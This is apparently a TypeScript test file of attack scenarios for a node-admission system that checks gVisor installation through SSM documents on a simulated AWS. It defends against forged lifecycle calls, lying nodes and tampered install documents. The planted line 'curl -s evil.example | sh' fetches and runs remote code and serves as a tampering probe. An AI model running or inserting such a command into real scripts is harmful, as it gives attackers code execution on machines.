import { strict as assert } from 'node:assert';
import { ModelledMachine } from '../../../packages/lab/machines.ts';
import type { Script } from '../../../packages/local-aws/agent.ts';
import { Intruder } from '../../attacks/intruder.ts';
import { endless } from '../slow.ts';
import { on, Scenario, type ScenarioRun } from './scenario.ts';

const planted = 'curl -s evil.example | sh';
const minute = 60_000;

/** A node that reports any installation it likes. */
class Liar extends ModelledMachine {
  override async run(script: Script) {
    const ended = await super.run(script);
    return { ...ended, stdout: ended.stdout.replaceAll('"runtime":"gvisor"', '"runtime":"kata"') };
  }
}

/**
 * Replaces the content of the document that installs gVisor, under its name. Plays the next launch, and returns every
 * script that ran.
 */
async function withDocument(
  assembly: string,
  rights: readonly string[],
  change: (attacker: Intruder, document: { readonly Name: string; readonly Content: string }) => Promise<void>,
): Promise<{ readonly outcome: string; readonly scripts: readonly string[] }> {
  const scripts: string[] = [];
  class Watched extends ModelledMachine {
    override run(script: Script) {
      scripts.push(script.text);
      return super.run(script);
    }
  }
  const scenario = await Scenario.start(assembly, [], async () => new Watched());
  try {
    const found = scenario.world.services.ssm
      .documents()
      .find(({ name }) => name.startsWith('airlock-gvisor-install-'));
    assert.ok(found, 'no document installs gVisor');
    const content = structuredClone(found.content);
    const [step] = content.mainSteps;
    assert.ok(step, 'the document has no step');
    (step.inputs['runCommand'] as string[]).unshift(planted);
    await change(new Intruder(scenario.world, rights), { Name: found.name, Content: JSON.stringify(content) });
    const node = await scenario.launch();
    await scenario.settle();
    return { outcome: scenario.outcome(node), scripts };
  } finally {
    await scenario.stop();
  }
}

/** Attacks that only code stops. */
export const attackScenarios = {
  'a call that no row allows cancels nothing, ends nothing and lets nothing into service': on(
    async (scenario) => {
      const hook = { name: 'airlock', heartbeatSeconds: 3_600, defaultResult: 'ABANDON' } as const;
      scenario.world.services.autoScaling.addGroup({ name: 'builders', tags: { 'airlock:runtime': 'gvisor' }, hook });
      const node = await scenario.launch({
        tags: { 'aws:autoscaling:groupName': 'builders' },
        without: ['karpenter.sh/nodepool'],
      });
      await scenario.pass(minute);
      const attacker = new Intruder(scenario.world, ['lambda:InvokeFunction']);
      const { instanceId, launchedAt } = node;
      const key = { instanceId, launchedAt: new Date(launchedAt).toISOString() };
      await attacker.invoke('Cancellation', { key });
      for (const action of ['decide', 'replace', 'keep']) await attacker.invoke('Remediation', { action, key });
      for (const operation of ['CancelCommand', 'CompleteLifecycleAction', 'TerminateInstances'])
        assert.equal(scenario.done(operation), 0, `${operation} was called`);
      assert.deepEqual(scenario.timeline(node), ['Node Admitted', 'Command Sent']);
    },
    [],
    endless,
    { pools: [{ name: 'builders', launchHook: 'airlock' }] },
  ),

  'a node that says it was installed something else has proven nothing': on(
    async (scenario) => {
      const node = await scenario.launch();
      await scenario.settle();
      assert.equal(scenario.outcome(node), 'proof-failed');
      assert.deepEqual(scenario.taints(node), ['airlock.dev/bootstrap', 'airlock.dev/quarantined']);
    },
    [],
    async () => new Liar(),
  ),

  'another version of a document runs nowhere': async (assembly) => {
    const rights = ['ssm:UpdateDocument', 'ssm:UpdateDocumentDefaultVersion'];
    const { outcome, scripts } = await withDocument(assembly, rights, async (attacker, document) => {
      await attacker.call('ssm', 'UpdateDocument', document);
      await attacker.call('ssm', 'UpdateDocumentDefaultVersion', { Name: document.Name, DocumentVersion: '2' });
    });
    assert.equal(outcome, 'released');
    assert.ok(!scripts.some((text) => text.includes(planted)), 'what was planted ran');
  },

  'a document of the same name with another text runs nowhere': async (assembly) => {
    const rights = ['ssm:DeleteDocument', 'ssm:CreateDocument'];
    const { outcome, scripts } = await withDocument(assembly, rights, async (attacker, document) => {
      await attacker.call('ssm', 'DeleteDocument', { Name: document.Name });
      await attacker.call('ssm', 'CreateDocument', { ...document, DocumentType: 'Command', DocumentFormat: 'JSON' });
    });
    assert.equal(outcome, 'document-changed');
    assert.deepEqual(scripts, []);
  },
} as const satisfies Readonly<Record<string, ScenarioRun>>;
